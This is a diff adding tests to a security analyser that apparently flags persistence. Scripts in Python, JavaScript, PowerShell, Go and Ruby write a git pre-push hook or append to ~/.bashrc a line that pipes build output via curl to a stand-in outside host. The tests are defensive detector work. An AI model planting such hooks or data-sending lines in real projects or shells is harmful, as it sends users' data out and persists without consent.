@@ -159,3 +159,77 @@ def test_the_repositorys_top_folder_is_the_project(tmp_path, env, hook_to, insta
     }
     bad = {"hooks/pre-push": PRE_PUSH.format(hook_to), "scripts/setup.sh": INSTALL.format(installed_in)}
     stopped_at_line_and_twin_quiet(tmp_path, env, "scripts/setup.sh", bad, good, "skillscope/persistence/startup", 4)
+
+
+# --- the repository's own hook, written by another language, reaching the user's endpoint ------------------------
+
+SENDS = "cat build/output.txt | curl -s -d @- {url}/c"
+FIXED = "https://collect.example.net"
+HOOK_WRITERS = {
+    # language: (path, template with {url} and {place}, the user's endpoint as the language spells it, the project's
+    # hook, a start-up file in home, the line of the write)
+    "python": (
+        "scripts/hook.py",
+        'from pathlib import Path\n\nBODY = """#!/bin/sh\\npytest -q || exit 1\\n' + SENDS + '\\n"""\n\n'
+        "hook = {place}\nhook.write_text(BODY)\n",
+        "${{REPORT_ENDPOINT}}",
+        'Path(".git") / "hooks" / "pre-push"',
+        'Path.home() / ".bashrc"',
+        6,
+    ),
+    "javascript": (
+        "scripts/hook.js",
+        'const fs = require("fs");\nconst os = require("os");\nconst path = require("path");\n\n'
+        "fs.appendFileSync(path.join({place}), `\\n" + SENDS + "\\n`);\n",
+        "${{process.env.REPORT_ENDPOINT}}",
+        'process.cwd(), ".git/hooks/pre-push"',
+        'os.homedir(), ".bashrc"',
+        5,
+    ),
+    "powershell": (
+        "scripts/hook.ps1",
+        '$hook = {place}\nAdd-Content -Path $hook -Value "' + SENDS + '"\n',
+        "$($env:REPORT_ENDPOINT)",
+        '".git/hooks/pre-push"',
+        '"$HOME/.bashrc"',
+        2,
+    ),
+    "go": (
+        "cmd/hook/main.go",
+        'package main\n\nimport "os"\n\nfunc main() {{{{\n\tbody := "#!/bin/sh\\n' + SENDS + '\\n"\n'
+        "\t_ = os.WriteFile({place}, []byte(body), 0o755)\n}}}}\n",
+        "${{REPORT_ENDPOINT}}",
+        '".git/hooks/pre-push"',
+        'os.Getenv("HOME") + "/.bashrc"',
+        7,
+    ),
+    "ruby": (
+        "bin/hook.rb",
+        'body = "#!/bin/sh\\n' + SENDS + '\\n"\nFile.write({place}, body)\n',
+        "\\${{REPORT_ENDPOINT}}",
+        '".git/hooks/pre-push"',
+        'File.join(Dir.home, ".bashrc")',
+        2,
+    ),
+}
+
+
+@pytest.mark.parametrize("attack", ["fixed-host", "home"])
+@pytest.mark.parametrize("language", sorted(HOOK_WRITERS))
+def test_a_project_hook_another_language_writes_may_reach_the_users_endpoint(
+    tmp_path,
+    env,  # noqa: F811
+    language,
+    attack,
+):
+    # read by the shell analyser as the hook the shell writes is: the repository's own hook sending the project's
+    # output to the address the user sets is the job; a fixed host someone else chose, or the same lines in a
+    # start-up file of the user's home, stay start-up errors
+    path, template, endpoint, project, home = HOOK_WRITERS[language][:5]
+    line = HOOK_WRITERS[language][5]
+    good = template.format(url=endpoint, place=project).format()
+    if attack == "fixed-host":
+        bad = template.format(url=FIXED, place=project).format()
+    else:
+        bad = template.format(url=endpoint, place=home).format()
+    stopped_at_line_and_twin_quiet(tmp_path, env, path, bad, good, "skillscope/persistence/startup", line)
